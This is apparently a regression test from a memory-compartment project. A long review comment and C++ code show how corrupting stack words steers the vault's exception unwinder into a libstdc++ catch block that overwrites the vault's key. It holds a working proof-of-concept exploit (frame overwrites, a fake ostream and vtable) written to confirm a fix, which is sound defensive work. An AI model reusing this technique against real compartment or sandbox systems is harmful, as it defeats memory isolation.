// Review 64a, attacker model A (key-0 stores only; made here by the
// program's callback, hook, as a second thread could): the vault's own
// unwinder, steered by words on the default domain's stack, lands in a
// catch of libstdc++ (shared code the pass did not compile: no hand-over,
// no rights check) with the vault's rights and registers and a stack of
// the attacker's choice, and that catch writes the vault's key.
// What: review 62's check (runtime/unwind-copy.c, put_rule_checked) stops
// a walk with a compartment's rights that comes back into the
// compartment's stack arena; a frame whose CFA stays out of the arena is
// taken, though past the entry trampoline its return address and saved
// registers are key-0 words. A return address there that names a call
// site of libstdc++ inside a try with catch (...) makes that frame the
// handler: the unwinder installs it with the vault's PKRU, rbx read from
// the key-0 stack, rsp on the key-0 stack. libstdc++'s catch then runs
// with the vault's rights on what the attacker wrote.
// How: main calls d2, which calls d1 (honest code, frame pointers, d1
// keeps a pointer in rbx and saves its caller's rbx); d1 calls the vault's
// entry vault_check, which throws E{42}. Before, hook stores into d1's
// frame and the frames above it (key-0 stack): d1's return address ->
// the return address of the call of num_put::put in
// std::ostream::_M_insert<long> (libstdc++.so.6, inside try { } catch
// (...) { this->_M_setstate(badbit); }); d1's saved rbx -> a fake ostream
// in key-0 memory whose virtual base offset makes its basic_ios's
// _M_streambuf_state lie at vault_key + 11; the sentry's stream (the
// landing rsp + 8) -> a harmless fake; the word _M_insert returns
// through -> landed. The unwinder (vault's rights): entry trampoline ->
// d1 (honest CFA, out of the arena) -> _M_insert at that call (CFA rsp +
// 80, out of the arena), whose LSDA's catch (...) takes E. The catch's
// _M_setstate ORs 1 into the int at vault_key + 11 ("VAUL": 'V' becomes
// 'W') with the vault's rights; _M_insert then returns into landed (a
// few instructions of the program's: any code of the attacker's choice),
// still with the vault's rights, which notes its PKRU and tells thread 2
// (default rights), which asks the vault whether its key is intact.
// Control: no stores: the same throw comes out through d1, d2 into main's
// catch with the default domain's rights: "caught E 42", key intact.
// The test checks the libstdc++ bytes it relies on first (Debian's
// libstdc++.so.6.0.30): another build says so and stops.
// Seen in the guest (LLVM 19, -O2 -fno-omit-frame-pointer, filter on) on
// main at 56847a0: control "caught E 42 in main", "vault key intact";
// attack "landed reached with PKRU 0xfffffff0, not the default
// domain's", "ATTACK SUCCEEDED: the vault's key was overwritten", 3 of 3.
// Suggested fix: with a compartment's rights, no personality routine of
// code the pass did not compile runs (and no context is installed there)
// for a frame whose stack pointer (the callee's CFA) lies outside the
// compartment's arena: such a frame is not the compartment's activation
// (shared code the compartment runs, qsort or std::sort, has its frames
// on the compartment's stack). The pass's default-domain pads stay
// landings (their hand-over stub, then a gate). The copy could name a
// personality routine of the runtime's that checks
// _Unwind_GetCFA(context) against the arena and only then calls the
// object's (kept in the copy, as callout_personality's LSDA is), else
// stops the program with one line as review 62's check does. libstdc++'s
// cleanups (destructors run in the second phase) are reached the same
// way as its catches.
// Fixed (runtime/unwind-copy.c, foreign_personality): the copy of a
// frame of an object Bulkhead did not build (neither the executable nor a
// shared object with compartments) runs its personality routine through
// the runtime's, which stops the program with one line when that routine
// finds a catch or cleanup for a frame whose stack pointer is off the
// compartment's stacks. Seen after: the stop line, 3 of 3 in the guest.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -fno-omit-frame-pointer %s -o %t -lpthread
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: not %run %t > %t.out 2>&1
// RUN: FileCheck %s < %t.out
// CONTROL: caught E 42 in main
// CONTROL: vault key intact
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: bulkhead: error: an exception of compartment 'vault' would be caught at pc {{.*}}libstdc++.so.6{{.*}} off its stacks, in code Bulkhead did not build
// CHECK-NOT: ATTACK SUCCEEDED
#include "Inputs/catch-landing.h"
#include <dlfcn.h>
#include <pthread.h>
#include <stdint.h>
#include <stdlib.h>
#include <unistd.h>

static uintptr_t fake_os[8], fake_vt[4]; /* the catch's `this` */
static uintptr_t calm_os[8], calm_vt[4]; /* the sentry's stream */
long sink; /* key 0, external: the store stays */
#include "Inputs/steered-catch.h"

/* The attacker's stores (a second thread could make them). d1_fp + 16 is
 * the landing rsp: _M_insert reads its sentry's stream at + 8, pops six
 * registers after + 0x18, then returns through + 0x48. */
static __attribute__((noinline)) void hook(void) {
  if (!attack)
    return;
  /* basic_ios at this + *(vptr - 24); its _M_streambuf_state at + 0x20 */
  fake_os[0] = (uintptr_t)&fake_vt[3];
  fake_vt[0] = (uintptr_t)(vault_key + 11 - 0x20) - (uintptr_t)fake_os;
  calm_vt[0] = 0; /* its basic_ios is itself: flags 0, no unitbuf */
  calm_os[0] = (uintptr_t)&calm_vt[3];
  uintptr_t *fp = (uintptr_t *)d1_fp;
  fp[1] = site;                   /* d1's return address */
  fp[-1] = (uintptr_t)fake_os;    /* d1's saved rbx: rbx at the catch */
  fp[3] = (uintptr_t)calm_os;     /* landing rsp + 8 */
  fp[2 + 9] = landed_at();        /* landing rsp + 0x48 */
}

/* The call of num_put::put in std::ostream::_M_insert<long>, whose
 * catch (...) pad calls _M_setstate on `this` (rbx), as in Debian's
 * libstdc++.so.6.0.30. */
static int find_site(void) {
  const uint8_t *f =
      (const uint8_t *)dlsym(RTLD_DEFAULT, "_ZNSo9_M_insertIlEERSoT_");
  static const uint8_t call[] = {0xff, 0x50, 0x18};             /* +0x77 */
  static const uint8_t out[] = {0x48, 0x83, 0xc4, 0x18};        /* +0xcc */
  static const uint8_t pad[] = {0x48, 0x8b, 0x03, 0xbe, 0x01};  /* +0x1d1 */
  if (!f || memcmp(f + 0x77, call, 3) || memcmp(f + 0xcc, out, 4) ||
      memcmp(f + 0x1d1, pad, 5))
    return 0;
  site = (uintptr_t)f + 0x7a;
  return 1;
}

int main(int argc, char **argv) {
  return steered_catch_main(argc, argv, find_site, "the libstdc++");
}
